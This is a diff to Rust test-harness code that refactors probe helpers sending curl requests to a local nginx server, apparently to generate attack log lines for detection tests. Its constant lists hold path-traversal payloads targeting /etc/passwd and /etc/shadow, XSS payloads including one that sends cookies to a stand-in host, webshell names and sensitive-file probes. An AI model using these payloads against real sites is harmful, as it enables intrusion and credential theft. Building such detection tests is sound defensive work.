@@ -365,104 +365,118 @@ pub fn curl(nginx: &Nginx, client: &str, ua: &str, paths: &[&str], extra: &[&str
 
 const CURL_UA: &str = "curl/7.88.1";
 
-/// Probes of files that must never be served; the docroot's `.env` (which the caller
-/// creates) answers 200 with its content.
-pub fn probe_sensitive(nginx: &Nginx) -> Vec<String> {
-    let paths = [
-        "/.env",
-        "/.git/config",
-        "/.git/HEAD",
-        "/wp-config.php.bak",
-        "/.htpasswd",
-        "/backup.sql",
-        "/phpinfo.php",
-        "/db.sql.gz",
-    ];
-    curl(nginx, SENSITIVE, CURL_UA, &paths, &[]);
-    produced(nginx, SENSITIVE, "curl", paths.len())
+/// Files that must never be served; the docroot's `.env` (which the caller creates)
+/// answers 200 with its content.
+pub const SENSITIVE_PATHS: &[&str] = &[
+    "/.env",
+    "/.git/config",
+    "/.git/HEAD",
+    "/wp-config.php.bak",
+    "/.htpasswd",
+    "/backup.sql",
+    "/phpinfo.php",
+    "/db.sql.gz",
+];
+
+/// The same kind of files, none of them there (all 404).
+pub const SENSITIVE_MISSING_PATHS: &[&str] = &[
+    "/.git/config",
+    "/.git/HEAD",
+    "/wp-config.php.bak",
+    "/.htpasswd",
+    "/backup.sql",
+    "/phpinfo.php",
+    "/.aws/credentials",
+    "/.DS_Store",
+];
+
+/// Path traversal, plain, encoded, double-encoded, and through PHP wrappers.
+pub const TRAVERSAL_PATHS: &[&str] = &[
+    "/../../../../etc/passwd",
+    "/index.php?page=../../../../etc/passwd",
+    "/index.php?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "/index.php?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
+    "/static/..%2f..%2f..%2fetc/shadow",
+    "/index.php?page=php://filter/convert.base64-encode/resource=index.php",
+    "/./.././../etc/passwd",
+    "/index.php?file=....//....//....//etc/passwd",
+    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
+    "/index.php?template=file:///etc/passwd",
+];
+
+/// Script injection in query strings, plain and encoded.
+pub const XSS_PATHS: &[&str] = &[
+    "/index.html?q=%3Cscript%3Ealert(1)%3C/script%3E",
+    "/index.html?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
+    "/index.html?name=%22%3E%3Csvg/onload=alert(1)%3E",
+    "/index.html?q=javascript:alert(1)",
+    "/index.html?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
+    "/index.html?q=%3Cbody%20onload=alert('xss')%3E",
+    "/index.html?q=%3Ciframe%20src=javascript:alert(1)%3E",
+    "/index.html?ref=%3CScRiPt%3Edocument.location='http://x/'+document.cookie%3C/sCrIpT%3E",
+];
+
+/// Well-known webshell names.
+pub const BACKDOOR_PATHS: &[&str] = &[
+    "/shell.php",
+    "/c99.php",
+    "/r57.php",
+    "/wso.php",
+    "/b374k.php",
+    "/alfa.php",
+    "/wp-content/uploads/shell.php",
+    "/cmd.php?cmd=id",
+    "/mini.php",
+    "/indoxploit.php",
+];
+
+/// Admin interfaces this site does not have.
+pub const ADMIN_PATHS: &[&str] = &[
+    "/phpmyadmin/",
+    "/phpMyAdmin/index.php",
+    "/pma/",
+    "/myadmin/",
+    "/mysql/admin/",
+    "/administrator/",
+    "/manager/html",
+    "/admin.php",
+    "/cpanel",
+    "/dbadmin/",
+];
+
+/// One curl request per path from `client`; returns the client's lines.
+fn probe(nginx: &Nginx, client: &str, paths: &[&str]) -> Vec<String> {
+    curl(nginx, client, CURL_UA, paths, &[]);
+    produced(nginx, client, "curl", paths.len())
 }
 
-/// The same kind of probes, none of them served (all 404).
+pub fn probe_sensitive(nginx: &Nginx) -> Vec<String> {
+    probe(nginx, SENSITIVE, SENSITIVE_PATHS)
+}
+
 pub fn probe_sensitive_missing(nginx: &Nginx) -> Vec<String> {
-    let paths = [
-        "/.git/config",
-        "/.git/HEAD",
-        "/wp-config.php.bak",
-        "/.htpasswd",
-        "/backup.sql",
-        "/phpinfo.php",
-        "/.aws/credentials",
-        "/.DS_Store",
-    ];
-    let codes = curl(nginx, SENSITIVE_MISS, CURL_UA, &paths, &[]);
-    assert!(codes.iter().all(|c| *c == 404), "{codes:?}");
-    produced(nginx, SENSITIVE_MISS, "curl", paths.len())
+    let lines = probe(nginx, SENSITIVE_MISS, SENSITIVE_MISSING_PATHS);
+    assert!(
+        lines.iter().all(|l| line_status(l) == Some(404)),
+        "{lines:#?}"
+    );
+    lines
 }
 
 pub fn probe_traversal(nginx: &Nginx) -> Vec<String> {
-    let paths = [
-        "/../../../../etc/passwd",
-        "/index.php?page=../../../../etc/passwd",
-        "/index.php?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
-        "/index.php?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
-        "/static/..%2f..%2f..%2fetc/shadow",
-        "/index.php?page=php://filter/convert.base64-encode/resource=index.php",
-        "/./.././../etc/passwd",
-        "/index.php?file=....//....//....//etc/passwd",
-        "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
-        "/index.php?template=file:///etc/passwd",
-    ];
-    curl(nginx, TRAVERSAL, CURL_UA, &paths, &[]);
-    produced(nginx, TRAVERSAL, "curl", paths.len())
+    probe(nginx, TRAVERSAL, TRAVERSAL_PATHS)
 }
 
 pub fn probe_xss(nginx: &Nginx) -> Vec<String> {
-    let paths = [
-        "/index.html?q=%3Cscript%3Ealert(1)%3C/script%3E",
-        "/index.html?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
-        "/index.html?name=%22%3E%3Csvg/onload=alert(1)%3E",
-        "/index.html?q=javascript:alert(1)",
-        "/index.html?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
-        "/index.html?q=%3Cbody%20onload=alert('xss')%3E",
-        "/index.html?q=%3Ciframe%20src=javascript:alert(1)%3E",
-        "/index.html?ref=%3CScRiPt%3Edocument.location='http://x/'+document.cookie%3C/sCrIpT%3E",
-    ];
-    curl(nginx, XSS, CURL_UA, &paths, &[]);
-    produced(nginx, XSS, "curl", paths.len())
+    probe(nginx, XSS, XSS_PATHS)
 }
 
 pub fn probe_backdoors(nginx: &Nginx) -> Vec<String> {
-    let paths = [
-        "/shell.php",
-        "/c99.php",
-        "/r57.php",
-        "/wso.php",
-        "/b374k.php",
-        "/alfa.php",
-        "/wp-content/uploads/shell.php",
-        "/cmd.php?cmd=id",
-        "/adminer.php",
-        "/indoxploit.php",
-    ];
-    curl(nginx, BACKDOOR, CURL_UA, &paths, &[]);
-    produced(nginx, BACKDOOR, "curl", paths.len())
+    probe(nginx, BACKDOOR, BACKDOOR_PATHS)
 }
 
 pub fn probe_admin(nginx: &Nginx) -> Vec<String> {
-    let paths = [
-        "/phpmyadmin/",
-        "/phpMyAdmin/index.php",
-        "/pma/",
-        "/myadmin/",
-        "/mysql/admin/",
-        "/administrator/",
-        "/manager/html",
-        "/admin.php",
-        "/cpanel",
-        "/dbadmin/",
-    ];
-    curl(nginx, ADMIN, CURL_UA, &paths, &[]);
-    produced(nginx, ADMIN, "curl", paths.len())
+    probe(nginx, ADMIN, ADMIN_PATHS)
 }
 
 /// Password guesses over XML-RPC (`wp.getUsersBlogs`), each answered 200 with a fault.
